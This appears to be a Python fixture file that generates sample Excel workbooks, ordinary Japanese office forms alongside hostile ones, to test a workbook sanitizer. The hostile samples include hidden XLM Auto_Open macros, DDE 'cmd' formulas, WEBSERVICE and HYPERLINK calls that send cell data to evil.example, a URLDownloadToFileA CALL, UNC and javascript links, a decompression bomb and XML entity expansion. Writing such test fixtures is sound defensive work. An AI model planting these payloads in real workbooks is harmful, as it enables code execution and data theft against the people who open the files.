# SPDX-License-Identifier: Apache-2.0
"""The workbooks of the samples: CASES says of each how it is made, which words
its report must count, and what must (or must not) be in what leaves. The numbers
are those of the catalogue of attacks (O018 …). make_books.py makes the parts.
"""
import io
import zipfile

from make_books import (CELL, EXCEL, HEAD, MAIN, MARKER, MS, NS, OFFICE, OPEN, REL, STRICT, X14, XM, Book, cell,
                        locked_agile, locked_standard, png, rows)

MC = f'xmlns:mc="{OPEN}markup-compatibility/2006"'
EVIL = "http://evil.example/"
DATE = 46113  # 2026-04-01
VML = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
       'xmlns:x="urn:schemas-microsoft-com:office:excel"><o:shapelayout v:ext="edit"><o:idmap v:ext="edit" '
       'data="1"/></o:shapelayout>')


def simple(formula=None, value="値", more="", text="町民税"):
    """A workbook with a title in A1 and, if there is one, a formula in A2."""
    book = Book()
    line = [cell("A2", value, formula=formula, more=more)] if formula is not None else []
    book.sheet("収支", rows([cell("A1", text)], line))
    return book


# ---- workbooks of an office ---------------------------------------------------

def strings(book, *texts):
    """Shared strings with readings (ふりがな)."""
    items = "".join(f'<si><t>{kanji}</t><rPh sb="0" eb="{len(kanji)}"><t>{kana}</t></rPh>'
                    '<phoneticPr fontId="0" type="Hiragana"/></si>' for kanji, kana in texts)
    book.add("xl/sharedStrings.xml", HEAD + f'<sst {NS} count="{len(texts)}" uniqueCount="{len(texts)}">{items}</sst>',
             CELL + "sharedStrings+xml")
    book.relate("xl/workbook.xml", "sharedStrings", "sharedStrings.xml")


def comment_vml(row, column, kind="Note", inside=""):
    return (VML + '<v:shapetype id="_x0000_t202" coordsize="21600,21600" o:spt="202" path="m,l,21600r21600,l21600,xe">'
            '<v:stroke joinstyle="miter"/><v:path gradientshapeok="t" o:connecttype="rect"/></v:shapetype>'
            '<v:shape id="_x0000_s1025" type="#_x0000_t202" style="position:absolute;margin-left:80pt;margin-top:2pt;'
            'width:108pt;height:60pt;z-index:1;visibility:hidden" fillcolor="#ffffe1" o:insetmode="auto">'
            '<v:fill color2="#ffffe1"/><v:textbox><div style="text-align:left"></div></v:textbox>'
            f'<x:ClientData ObjectType="{kind}"><x:MoveWithCells/><x:SizeWithCells/><x:AutoFill>False</x:AutoFill>'
            f"<x:Row>{row}</x:Row><x:Column>{column}</x:Column>{inside}</x:ClientData></v:shape></xml>")


def form():
    """An application form: title, era, seal, notes, check box, print settings."""
    book = Book()
    strings(book, ("山田太郎", "やまだたろう"), ("申請書", "しんせいしょ"))
    book.add("xl/media/image1.png", png(60, 60, (190, 20, 40)))
    book.relate("xl/drawings/drawing1.xml", "image", "../media/image1.png")
    anchor = ("<xdr:from><xdr:col>{0}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>{1}</xdr:row><xdr:rowOff>0</xdr:rowOff>"
              "</xdr:from><xdr:to><xdr:col>{2}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>{3}</xdr:row>"
              "<xdr:rowOff>0</xdr:rowOff></xdr:to>")
    book.add("xl/drawings/drawing1.xml", HEAD + (
        f'<xdr:wsDr xmlns:xdr="{OPEN}drawingml/2006/spreadsheetDrawing" xmlns:a="{OPEN}drawingml/2006/main" '
        f'xmlns:r="{REL[:-1]}"><xdr:twoCellAnchor>{anchor.format(4, 2, 5, 5)}<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" '
        'name="公印"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:embed="rId1"/><a:stretch><a:fillRect/>'
        '</a:stretch></xdr:blipFill><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic>'
        f"<xdr:clientData/></xdr:twoCellAnchor><xdr:twoCellAnchor>{anchor.format(6, 1, 7, 9)}"
        '<xdr:sp macro="Run" textlink=""><xdr:nvSpPr><xdr:cNvPr id="3" name="縦"/><xdr:cNvSpPr txBox="1"/></xdr:nvSpPr>'
        '<xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr><xdr:txBody><a:bodyPr vert="eaVert"/>'
        '<a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP"/><a:t>記入上の注意</a:t></a:r></a:p></xdr:txBody></xdr:sp>'
        "<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"), OFFICE + "drawing+xml")
    drawing = book.pending("drawing", "../drawings/drawing1.xml")
    book.add("xl/comments1.xml", HEAD + (
        f'<comments {NS}><authors><author>総務課</author></authors><commentList><comment ref="B3" authorId="0"><text><r>'
        '<rPr><b/><sz val="9"/><rFont val="MS P ゴシック"/></rPr><t xml:space="preserve">楷書で </t></r><r><t>書くこと</t></r>'
        "</text></comment></commentList></comments>"), CELL + "comments+xml")
    book.pending("comments", "../comments1.xml")
    book.add("xl/drawings/vmlDrawing1.vml", comment_vml(2, 1))
    legacy = book.pending("vmlDrawing", "../drawings/vmlDrawing1.vml")
    link = book.pending("hyperlink", "https://www.city.example.lg.jp/shinsei/", True)
    book.add("xl/ctrlProps/ctrlProp1.xml", HEAD + (
        f'<formControlPr xmlns="{MS}spreadsheetml/2009/9/main" objectType="CheckBox" checked="Checked" '
        'fmlaLink="$H$5" lockText="1"/>'), EXCEL + "controlproperties+xml")
    control = book.pending("ctrlProp", "../ctrlProps/ctrlProp1.xml")
    controls = (
        f'<mc:AlternateContent {MC}><mc:Choice xmlns:x14="{MS}spreadsheetml/2009/9/main" Requires="x14"><controls>'
        f'<mc:AlternateContent><mc:Choice Requires="x14"><control shapeId="1026" r:id="{control}" name="チェック 1">'
        '<controlPr defaultSize="0" autoFill="0" autoLine="0" autoPict="0" macro="[0]!Run" altText="同意する">'
        '<anchor moveWithCells="1"><from><xdr:col xmlns:xdr="%s">1</xdr:col><xdr:colOff xmlns:xdr="%s">0</xdr:colOff>'
        '<xdr:row xmlns:xdr="%s">6</xdr:row><xdr:rowOff xmlns:xdr="%s">0</xdr:rowOff></from></anchor></controlPr>'
        "</control></mc:Choice></mc:AlternateContent></controls></mc:Choice></mc:AlternateContent>"
        ) % ((OPEN + "drawingml/2006/spreadsheetDrawing",) * 4)
    before = ('<sheetPr codeName="Sheet1"><tabColor rgb="FFFF0000"/><pageSetUpPr fitToPage="1"/></sheetPr>'
              '<dimension ref="A1:H9"/><sheetViews><sheetView showGridLines="0" tabSelected="1" view="pageBreakPreview" '
              'workbookViewId="0"><selection activeCell="B3" sqref="B3"/></sheetView></sheetViews>'
              '<sheetFormatPr defaultRowHeight="13.5"/><cols><col min="1" max="1" width="12" customWidth="1"/></cols>')
    after = ('<sheetProtection algorithmName="SHA-512" hashValue="AAAA" saltValue="AAAA" spinCount="100000" sheet="1" '
             'objects="1" scenarios="1"/><mergeCells count="1"><mergeCell ref="A1:E1"/></mergeCells>'
             '<phoneticPr fontId="0"/><dataValidations count="2"><dataValidation type="list" imeMode="hiragana" '
             'allowBlank="1" showInputMessage="1" showErrorMessage="1" prompt="選ぶ" sqref="B4"><formula1>"男,女,回答しない"'
             '</formula1></dataValidation><dataValidation type="list" allowBlank="1" sqref="B5"><formula1>INDIRECT($B$4)'
             f'</formula1></dataValidation></dataValidations><hyperlinks><hyperlink ref="A9" r:id="{link}" '
             'tooltip="手続"/><hyperlink ref="A8" location="\'一覧 表\'!A1" display="一覧へ"/></hyperlinks>'
             '<printOptions horizontalCentered="1"/><pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" '
             'header="0.3" footer="0.3"/><pageSetup paperSize="9" fitToHeight="0" orientation="portrait"/>'
             '<headerFooter><oddHeader>&amp;C様式第１号</oddHeader><oddFooter>&amp;P / &amp;N</oddFooter></headerFooter>'
             '<rowBreaks count="1" manualBreakCount="1"><brk id="40" max="16383" man="1"/></rowBreaks>'
             f'<drawing r:id="{drawing}"/><legacyDrawing r:id="{legacy}"/>{controls}')
    book.sheet("申請書", rows(
        ['<c r="A1" s="4" t="s"><v>1</v></c>'],
        [cell("A2", "令和八年度　辻\U000E0100村")],
        [cell("A3", "氏名", 5), '<c r="B3" t="s"><v>0</v></c>'],
        [cell("A4", "日付"), cell("B4", DATE, 1)],
        [cell("A5", "税額"), cell("B5", 12500, 2, formula="ROUND(C5*税率,0)"), cell("C5", 125000)],
        [cell("A6", "元号"), cell("B6", "令和8年4月1日", formula="DATESTRING(B4)")],
        [cell("A7", "読み"), cell("B7", "やまだたろう", formula="PHONETIC(B3)")]), before, after)
    book.sheet("一覧 表", rows([cell("A1", "一覧")]), state=' state="hidden"')
    book.name("_xlnm.Print_Area", "申請書!$A$1:$H$40", ' localSheetId="0"')
    book.name("_xlnm.Print_Titles", "申請書!$1:$2", ' localSheetId="0"')
    book.name("税率", "0.1")
    return book


def grid():
    """Grid paper (方眼紙): narrow columns, everything merged."""
    book = Book()
    lines = [[cell(ref(c, r), "会" if (c, r) == (2, 1) else "", 5) for c in range(40)] for r in range(20)]
    merged = "".join(f'<mergeCell ref="{ref(2, r)}:{ref(20, r)}"/>' for r in range(1, 20, 2))
    book.sheet("方眼", rows(*lines), '<cols><col min="1" max="40" width="2.625" customWidth="1"/></cols>',
               f'<mergeCells count="10">{merged}</mergeCells>')
    return book


def ref(column, row):
    return ("A" * (column // 26) if column < 52 else "") + chr(65 + column % 26) + str(row + 1)


def table_book(formula="売上[[#This Row],[単価]]*2", total="SUBTOTAL(109,売上[金額])", validation="一覧!$A$1:$A$3",
               rule="$A$1&gt;一覧!$A$1", spark="売上!A2:A4", scale="0"):
    """A table, rules, choices from another sheet, sparklines."""
    book = Book()
    book.add("xl/tables/table1.xml", HEAD + (
        f'<table {NS} id="1" name="売上" displayName="売上" ref="A1:B5" totalsRowCount="1"><autoFilter ref="A1:B4"/>'
        '<tableColumns count="2"><tableColumn id="1" name="単価" totalsRowLabel="計"/><tableColumn id="2" name="金額" '
        f'totalsRowFunction="custom"><calculatedColumnFormula>{formula}</calculatedColumnFormula>'
        f"<totalsRowFormula>{total}</totalsRowFormula></tableColumn></tableColumns>"
        '<tableStyleInfo name="TableStyleMedium2" showFirstColumn="0" showLastColumn="0" showRowStripes="1" '
        'showColumnStripes="0"/></table>'), CELL + "table+xml")
    part = book.pending("table", "../tables/table1.xml")
    after = (
        '<conditionalFormatting sqref="A2:A4"><cfRule type="expression" dxfId="0" priority="1"><formula>$A2&gt;1'
        '</formula></cfRule><cfRule type="dataBar" priority="2"><dataBar><cfvo type="min"/>'
        f'<cfvo type="formula" val="{scale}"/><color rgb="FF638EC6"/></dataBar><extLst>'
        f'<ext {X14} uri="{{B025F937-C7B1-47D3-B67F-A62EFF666E3E}}"><x14:id>{{00000000-0000-0000-0000-000000000001}}'
        "</x14:id></ext></extLst></cfRule></conditionalFormatting>"
        f'<tableParts count="1"><tablePart r:id="{part}"/></tableParts><extLst>'
        f'<ext {X14} uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}"><x14:dataValidations count="1" {XM}>'
        '<x14:dataValidation type="list" allowBlank="1"><x14:formula1><xm:f>' + validation +
        "</xm:f></x14:formula1><xm:sqref>D1</xm:sqref></x14:dataValidation></x14:dataValidations></ext>"
        f'<ext {X14} uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}"><x14:conditionalFormattings>'
        f'<x14:conditionalFormatting {XM}><x14:cfRule type="expression" priority="3" '
        'id="{00000000-0000-0000-0000-000000000002}"><xm:f>' + rule + "</xm:f><x14:dxf><font><b/></font></x14:dxf>"
        "</x14:cfRule><xm:sqref>A2</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext>"
        f'<ext {X14} uri="{{05C60535-1F16-4fd2-B633-F4F36F0B64E0}}"><x14:sparklineGroups {XM}>'
        '<x14:sparklineGroup displayEmptyCellsAs="gap"><x14:colorSeries rgb="FF376092"/><x14:sparklines><x14:sparkline>'
        f"<xm:f>{spark}</xm:f><xm:sqref>C1</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup>"
        "</x14:sparklineGroups></ext>"
        f'<ext xmlns:x15="{MS}spreadsheetml/2010/11/main" uri="{{F7C9EE02-42E1-4005-9D12-6889AFFD525C}}">'
        "<x15:webExtensions/></ext></extLst>")
    book.sheet("売上", rows([cell("A1", "単価"), cell("B1", "金額")],
                            *[[cell(f"A{i}", i), cell(f"B{i}", 2 * i, formula="売上[[#This Row],[単価]]*2")]
                              for i in (2, 3, 4)],
                            [cell("A5", "計"), cell("B5", 18, formula="SUBTOTAL(109,売上[金額])")]), "", after)
    book.sheet("一覧", rows([cell("A1", 1)], [cell("A2", 2)], [cell("A3", 3)]))
    return book


def dynamic():
    """A formula that fills several cells, and its metadata."""
    book = Book()
    book.add("xl/metadata.xml", HEAD + (
        f'<metadata {NS} xmlns:xda="{MS}spreadsheetml/2017/dynamicarray"><metadataTypes count="1"><metadataType '
        'name="XLDAPR" minSupportedVersion="120000" copy="1" pasteAll="1" pasteValues="1" merge="1" splitFirst="1" '
        'rowColShift="1" clearFormats="1" clearComments="1" assign="1" coerce="1" cellMeta="1"/></metadataTypes>'
        '<futureMetadata name="XLDAPR" count="1"><bk><extLst><ext uri="{bdbb8cdc-fa1e-496e-a857-3c3f30c029c3}">'
        '<xda:dynamicArrayProperties fDynamic="1" fCollapsed="0"/></ext></extLst></bk></futureMetadata>'
        '<cellMetadata count="1"><bk><rc t="1" v="0"/></bk></cellMetadata></metadata>'), CELL + "sheetMetadata+xml")
    book.relate("xl/workbook.xml", "sheetMetadata", "metadata.xml")
    one = ('<c r="A1" cm="1"><f t="array" ref="A1:A3">_xlfn._xlws.SORT(_xlfn.SEQUENCE(3),,-1)</f><v>3</v></c>')
    two = ('<c r="B1" cm="1" t="str"><f t="array" ref="B1">_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)</f>'
           "<v>取得済み</v></c>")
    book.sheet("動的", rows([one, two], [cell("A2", 2)], [cell("A3", 1)]))
    return book


def pivot(source='type="worksheet"><worksheetSource ref="A1:B3" sheet="元"/></cacheSource>'):
    book = Book()
    book.add("xl/pivotCache/pivotCacheDefinition1.xml", HEAD + (
        f'<pivotCacheDefinition {NS} r:id="rId1" refreshOnLoad="1" refreshedBy="山田" createdVersion="6" '
        f'refreshedVersion="6" recordCount="2"><cacheSource {source}<cacheFields count="2"><cacheField name="課" '
        'numFmtId="0"><sharedItems count="2"><s v="総務"/><s v="税務"/></sharedItems></cacheField><cacheField name="額" '
        'numFmtId="0"><sharedItems containsSemiMixedTypes="0" containsString="0" containsNumber="1"/></cacheField>'
        "</cacheFields></pivotCacheDefinition>"), CELL + "pivotCacheDefinition+xml")
    book.add("xl/pivotCache/pivotCacheRecords1.xml", HEAD + (
        f'<pivotCacheRecords {NS} count="2"><r><x v="0"/><n v="10"/></r><r><x v="1"/><n v="20"/></r>'
        "</pivotCacheRecords>"), CELL + "pivotCacheRecords+xml")
    book.relate("xl/pivotCache/pivotCacheDefinition1.xml", "pivotCacheRecords", "pivotCacheRecords1.xml")
    book.add("xl/pivotTables/pivotTable1.xml", HEAD + (
        f'<pivotTableDefinition {NS} name="集計" cacheId="1" dataCaption="値" updatedVersion="6" createdVersion="6" '
        'outline="1"><location ref="A1:B4" firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/><pivotFields count="2">'
        '<pivotField axis="axisRow" showAll="0"><items count="3"><item x="0"/><item x="1"/><item t="default"/></items>'
        '</pivotField><pivotField dataField="1" showAll="0"/></pivotFields><rowFields count="1"><field x="0"/></rowFields>'
        '<rowItems count="3"><i><x/></i><i><x v="1"/></i><i t="grand"><x/></i></rowItems><colItems count="1"><i/></colItems>'
        '<dataFields count="1"><dataField name="合計 / 額" fld="1" baseField="0" baseItem="0"/></dataFields>'
        '<pivotTableStyleInfo name="PivotStyleLight16" showRowHeaders="1" showColHeaders="1"/></pivotTableDefinition>'),
        CELL + "pivotTable+xml")
    book.relate("xl/pivotTables/pivotTable1.xml", "pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml")
    rid = book.relate("xl/workbook.xml", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
    book.more += f'<pivotCaches><pivotCache cacheId="1" r:id="{rid}"/></pivotCaches>'
    book.sheet("元", rows([cell("A1", "課"), cell("B1", "額")], [cell("A2", "総務"), cell("B2", 10)],
                          [cell("A3", "税務"), cell("B3", 20)]))
    book.pending("pivotTable", "../pivotTables/pivotTable1.xml")
    book.sheet("集計", rows([cell("A1", "行"), cell("B1", "合計 / 額")], [cell("A2", "総務"), cell("B2", 10)]))
    return book


def thread():
    """A comment with an answer."""
    book = Book()
    space = f'xmlns="{MS}spreadsheetml/2018/threadedcomments"'
    book.add("xl/persons/person.xml", HEAD + (
        f'<personList {space}><person displayName="鈴木 花子" id="{{A0000000-0000-0000-0000-000000000001}}" '
        'userId="S::h@city.example::1" providerId="AD"/></personList>'), EXCEL + "person+xml")
    book.relate("xl/workbook.xml", MS + "2017/10/relationships/person", "persons/person.xml")
    book.add("xl/threadedComments/threadedComment1.xml", HEAD + (
        f'<ThreadedComments {space}><threadedComment ref="A1" dT="2026-04-01T09:00:00.00" '
        'personId="{A0000000-0000-0000-0000-000000000001}" id="{B0000000-0000-0000-0000-000000000001}"><text>金額を確認'
        '</text></threadedComment></ThreadedComments>'), EXCEL + "threadedcomments+xml")
    book.pending(MS + "2017/10/relationships/threadedComment", "../threadedComments/threadedComment1.xml")
    book.add("xl/comments1.xml", HEAD + (
        f'<comments {NS}><authors><author>tc={{B0000000-0000-0000-0000-000000000001}}</author></authors><commentList>'
        '<comment ref="A1" authorId="0" shapeId="0"><text><t>金額を確認</t></text></comment></commentList></comments>'),
        CELL + "comments+xml")
    book.pending("comments", "../comments1.xml")
    book.add("xl/drawings/vmlDrawing1.vml", comment_vml(0, 0))
    legacy = book.pending("vmlDrawing", "../drawings/vmlDrawing1.vml")
    book.sheet("収支", rows([cell("A1", "町民税")]), "", f'<legacyDrawing r:id="{legacy}"/>')
    return book


# ---- workbooks that do harm -----------------------------------------------------

def macros(state=' state="veryHidden"'):
    """XLM: a sheet of macros that nobody sees, run when the workbook opens."""
    book = Book(EXCEL + "sheet.macroEnabled.main+xml")
    book.other_sheet("Macro1", "xl/macrosheets/sheet1.xml", HEAD + (
        f'<xm:macrosheet xmlns="{MAIN}" xmlns:xm="{MS}excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("'
        f'{MARKER.decode()}")</f></c></row></sheetData></xm:macrosheet>'),
        MS + "2006/relationships/xlMacrosheet", EXCEL + "macrosheet+xml", state)
    book.other_sheet("Dialog1", "xl/dialogsheets/sheet1.xml", HEAD + f"<dialogsheet {NS}/>", "dialogsheet",
                     CELL + "dialogsheet+xml")
    book.sheet("収支", rows([cell("A1", "町民税"), cell("B1", "前の値", formula="Macro1!A1")]))
    book.name("_xlnm.Auto_Open", "Macro1!$A$1", ' hidden="1"')
    book.name("auto_openX", "Macro1!$A$2")
    book.name("Auto_Close", "Macro1!$A$3")
    book.name("run", "Macro1!$A$1", ' function="1" xlm="1"')
    book.name("_xlnm.Print_Area", "収支!$A$1", ' localSheetId="2"')
    book.add("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARKER, "application/vnd.ms-office.vbaProject")
    book.relate("xl/workbook.xml", MS + "2006/relationships/vbaProject", "vbaProject.bin")
    book.views = ' activeTab="2" firstSheet="2"'
    return book


def shown_macros(kind="xlMacrosheet", of="macrosheet"):
    """XLM on a sheet that people see: its words and results stay, and what other sheets
    reckon from them; a hidden one goes."""
    book = Book(EXCEL + "sheet.macroEnabled.main+xml")
    for i, state in ((1, ""), (2, ' state="hidden"'), (3, ' state="visible"')):
        book.other_sheet(f"Macro{i}", f"xl/macrosheets/sheet{i}.xml", HEAD + (
            f'<xm:macrosheet xmlns="{MAIN}" xmlns:xm="{MS}excel/2006/main"><sheetViews><sheetView '
            'showFormulas="1" workbookViewId="0"/></sheetViews><sheetData><row r="1">'
            f'<c r="A1" t="inlineStr"><is><t>手順書{i}</t></is></c>'
            f'<c r="B1" t="b"><f>EXEC("{MARKER.decode()}")</f><v>1</v></c><c r="C1"><f>SUM(1,{i})</f><v>{i + 1}</v></c>'
            '</row></sheetData></xm:macrosheet>'),
            MS + "2006/relationships/" + kind, EXCEL + of + "+xml", state)
    book.sheet("収支", rows([cell("A1", "町民税"), cell("B1", "前の値", formula="Macro1!A1"),
                           cell("C1", "隠れた値", formula="Macro2!A1")]))
    book.name("_xlnm.Auto_Open", "Macro1!$B$1")
    book.name("題", "Macro3!$A$1")
    book.views = ' activeTab="3" firstSheet="1"'
    return book


def shared():
    """One formula for many cells, of which the first alone has the text."""
    book = Book()
    lines = [[cell("A1", "町民税")]]
    lines += [[f'<c r="A{i}"><f t="shared" ref="A2:A4" si="0">{"" if i > 2 else "WEBSERVICE(B2)"}</f><v>{i}</v></c>',
               f'<c r="B{i}"><f t="shared" ref="B2:B4" si="1">{"" if i > 2 else "C2+1"}</f><v>{i}</v></c>']
              for i in (2, 3, 4)]
    book.sheet("収支", rows(*lines))
    return book


def names():
    book = simple("外の値+1", 5)
    book.name("外の値", "[1]Sheet1!$A$1")
    book.name("命令", "cmd|'/c calc'!A0")
    book.name("中の値", "収支!$A$1")
    return book


def outside():
    """Another workbook, a linked object, links to files."""
    book = Book()
    book.add("xl/externalLinks/externalLink1.xml", HEAD + (
        f'<externalLink {NS}><externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook>'
        "</externalLink>"), CELL + "externalLink+xml")
    book.relate("xl/externalLinks/externalLink1.xml", "externalLinkPath", "file:///\\\\evil.example\\a.xlsx", True)
    rid = book.relate("xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml")
    book.links = f'<externalReferences><externalReference r:id="{rid}"/></externalReferences>'
    file_link = book.pending("hyperlink", "file:///\\\\evil.example\\share\\a.exe", True)
    script = book.pending("hyperlink", "javascript:alert(1)", True)
    ole = book.pending("oleObject", "file:///\\\\evil.example\\a.doc", True)
    printer = book.pending("printerSettings", "../printerSettings/printerSettings1.bin")
    book.add("xl/printerSettings/printerSettings1.bin", MARKER, CELL + "printerSettings")
    book.sheet("収支", rows([cell("A1", "町民税"), cell("B1", 7, formula="[1]S!A1")]), "",
               f'<hyperlinks><hyperlink ref="A1" r:id="{file_link}"/><hyperlink ref="A2" r:id="{script}"/>'
               '<hyperlink ref="A3" location="[evil.xlsx]S!A1"/></hyperlinks><pageSetup paperSize="9" '
               f'r:id="{printer}"/><oleObjects><oleObject progId="Word.Document.12" link="[1]!\'\'" '
               f'oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025" r:id="{ole}"/></oleObjects>')
    return book


def misleading():
    """A link whose tip names another host than the one to which it leads."""
    book = Book()
    link = book.pending("hyperlink", "http://evil.example/", True)
    book.sheet("収支", rows([cell("A1", "町民税")]), "", f'<hyperlinks><hyperlink ref="A1" r:id="{link}" '
               'tooltip="https://bank.example/" display="町民税"/></hyperlinks>')
    return book


def query():
    """Power Query: connections, a query's table, the mashup."""
    book = Book()
    book.add("xl/connections.xml", HEAD + (
        f'<connections {NS}><connection id="1" name="q" type="5" refreshOnLoad="1"><dbPr connection="Provider='
        f'Microsoft.Mashup.OleDb.1;{MARKER.decode()}" command="SELECT"/></connection></connections>'),
        CELL + "connections+xml")
    book.relate("xl/workbook.xml", "connections", "connections.xml")
    book.add("customXml/item1.xml", f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{MARKER.decode()}'
             "</DataMashup>")
    book.relate("xl/workbook.xml", "customXml", "../customXml/item1.xml")
    book.add("xl/queryTables/queryTable1.xml", HEAD + f'<queryTable {NS} name="q" connectionId="1"/>',
             CELL + "queryTable+xml")
    book.relate("xl/tables/table1.xml", "queryTable", "../queryTables/queryTable1.xml")
    book.add("xl/tables/table1.xml", HEAD + (
        f'<table {NS} id="1" name="q" displayName="q" ref="A1:A2" tableType="queryTable" connectionId="1"><tableColumns '
        'count="1"><tableColumn id="1" name="町民税" uniqueName="1" queryTableFieldId="1"/></tableColumns></table>'),
        CELL + "table+xml")
    part = book.pending("table", "../tables/table1.xml")
    book.sheet("収支", rows([cell("A1", "町民税")], [cell("A2", 5)]), "",
               f'<tableParts count="1"><tablePart r:id="{part}"/></tableParts>')
    return book


def objects():
    """A document in it, and a control."""
    inner = simple(text="中の表").bytes()
    book = Book()
    book.add("xl/embeddings/book1.xlsx", inner)
    ole = book.pending("package", "../embeddings/book1.xlsx")
    book.add("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARKER)
    other = book.pending("oleObject", "../embeddings/oleObject1.bin")
    book.add("xl/activeX/activeX1.xml", f'<ax:ocx xmlns:ax="{MS}2006/activeX" ax:classid="{{0}}"/>',
             "application/vnd.ms-office.activeX+xml")
    control = book.pending("control", "../activeX/activeX1.xml")
    book.sheet("収支", rows([cell("A1", "町民税")]), "",
               f'<oleObjects><oleObject progId="Excel.Sheet.12" shapeId="1025" r:id="{ole}"/><oleObject '
               f'progId="Package" shapeId="1026" r:id="{other}"/></oleObjects><controls><control shapeId="1027" '
               f'r:id="{control}" name="C"/></controls>')
    return book


def linked_control():
    book = Book()
    book.add("xl/ctrlProps/ctrlProp1.xml", HEAD + (
        f'<formControlPr xmlns="{MS}spreadsheetml/2009/9/main" objectType="Drop" fmlaLink="[1]S!$A$1" '
        'fmlaRange="WEBSERVICE(&quot;http://evil.example/&quot;)" sel="1" val="0"/>'), EXCEL + "controlproperties+xml")
    control = book.pending("ctrlProp", "../ctrlProps/ctrlProp1.xml")
    book.add("xl/drawings/vmlDrawing1.vml", comment_vml(0, 0, "Drop", "<x:FmlaMacro>[0]!Run</x:FmlaMacro>"
                                                        "<x:FmlaLink>[1]S!$A$1</x:FmlaLink>"))
    legacy = book.pending("vmlDrawing", "../drawings/vmlDrawing1.vml")
    book.sheet("収支", rows([cell("A1", "町民税")]), "",
               f'<legacyDrawing r:id="{legacy}"/><controls><control shapeId="1025" r:id="{control}" name="選択"/></controls>')
    return book


def strict():
    """The strict form of the standard, which other readers may not expect."""
    book = simple("WEBSERVICE(A1)", "値")
    data = zipfile.ZipFile(io.BytesIO(book.bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in data.namelist():
            body = data.read(name).decode()
            body = body.replace(MAIN, STRICT + "spreadsheetml/main").replace(
                REL[:-1], STRICT + "officeDocument/relationships").replace(
                OPEN + "drawingml/2006/main", STRICT + "drawingml/main")
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), body)
    return out.getvalue()


def bomb():
    """Shared strings that unpack to much more than they are."""
    book = simple()
    book.add("xl/sharedStrings.xml", HEAD + f"<sst {NS}>" + ("<si><t>" + "A" * 4000 + "</t></si>") * 60000 + "</sst>",
             CELL + "sharedStrings+xml")
    book.relate("xl/workbook.xml", "sharedStrings", "sharedStrings.xml")
    return book


def entities():
    book = simple()
    raw = book.parts["xl/worksheets/sheet1.xml"].decode()
    book.parts["xl/worksheets/sheet1.xml"] = raw.replace(
        HEAD, '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "' + "A" * 1000 + '">' + "".join(
            f'<!ENTITY {b} "{("&" + a + ";") * 10}">' for a, b in zip("abcdefg", "bcdefgh")) + "]>").replace(
        "町民税", "&h;").encode()
    return book


def binary():
    """A workbook in the binary form (XLSB): its parts are no XML."""
    book = Book(EXCEL + "sheet.binary.macroEnabled.main")
    book.sheet("収支", rows([cell("A1", "町民税")]))
    data = zipfile.ZipFile(io.BytesIO(book.bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in data.namelist():
            body = data.read(name)
            if name.endswith((".rels", "].xml")):
                body = body.replace(b"workbook.xml", b"workbook.bin")
            if name == "xl/workbook.xml":
                body = b"\x83\x01\x00" + MARKER
            archive.writestr(zipfile.ZipInfo(name.replace("workbook.xml", "workbook.bin"), (1980, 1, 1, 0, 0, 0)), body)
    return out.getvalue()


class Case:
    """One workbook: @counts are the words that its report must count, @gone what
    must not be in any part of what leaves, @kept what must be."""

    def __init__(self, name, book, counts=(), kept=("町民税",), gone=(), verdict="cleaned", suffix=".xlsx"):
        self.name, self.book, self.counts, self.kept, self.gone = name, book, counts, kept, gone
        self.verdict, self.suffix = verdict, suffix

    def bytes(self):
        made = self.book()
        return made if isinstance(made, bytes) else made.bytes()


FORMULAS = [
    ("dde", "cmd|'/c calc'!A0", ["cmd|"]),
    ("dde-plus", "+cmd|'/c calc'!A0", ["cmd|"]),
    ("webservice", "_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;)", ["WEBSERVICE"]),
    ("image", "_xlfn.IMAGE(&quot;http://evil.example/a.png&quot;)", ["IMAGE("]),
    ("filterxml", "_xlfn.FILTERXML(A1,&quot;//a&quot;)", ["FILTERXML"]),
    ("rtd", "RTD(&quot;evil.server&quot;,,&quot;a&quot;)", ["RTD("]),
    ("call", "CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;JJCCJJ&quot;)", ["CALL("]),
    ("register", "REGISTER.ID(&quot;a&quot;,&quot;b&quot;)", ["REGISTER"]),
    ("hyperlink-file", "HYPERLINK(&quot;file://evil.example/a.exe&quot;,&quot;見る&quot;)", ["HYPERLINK"]),
    ("hyperlink-computed", "HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1)", ["HYPERLINK"]),
    ("external", "SUM('\\\\evil.example\\[a.xlsx]S'!A1)", ["evil.example"]),
    ("user-function", "秘密の関数(A1)", ["秘密の関数"]),
    ("cell-filename", "CELL(&quot;filename&quot;)", ["CELL("]),
]
